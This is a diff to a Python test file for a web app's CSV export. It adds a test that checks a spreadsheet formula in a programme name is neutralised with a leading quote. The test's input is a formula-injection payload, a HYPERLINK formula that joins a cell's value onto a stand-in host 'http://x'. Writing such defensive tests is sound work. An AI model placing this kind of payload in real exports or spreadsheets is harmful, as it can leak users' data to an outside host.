@@ -1,5 +1,7 @@
 """Quick-win follow-up pages: the region reports, mentors and staff read, the table flags lag."""
 
+import csv
+import io
 from datetime import timedelta
 
 import pytest
@@ -243,6 +245,20 @@ def test_the_table_exports_csv(client, world, quick_win):
     assert lines[0].startswith("Kode wilayah,Wilayah,Angkatan,Program")
     row = next(line for line in lines if quick_win.name in line)
     assert ",10,Terhambat," in row and ",ya," in row
+
+
+def test_the_csv_neutralises_a_formula_in_an_officials_programme_name(client, world, quick_win):
+    # The name as an official could type it in the plan editor: a spreadsheet would run it.
+    quick_win.name = '=HYPERLINK("http://x"&A1,"klik")'
+    quick_win.save()
+    client.force_login(world.staff)
+
+    response = table(client, format="csv")
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    names = [row[3] for row in rows[1:]]
+    assert '\'=HYPERLINK("http://x"&A1,"klik")' in names
+    assert not any(name.startswith("=") for name in names)
 
 
 @pytest.mark.parametrize("who", ["official", "mentor", "partner", "assessor"])
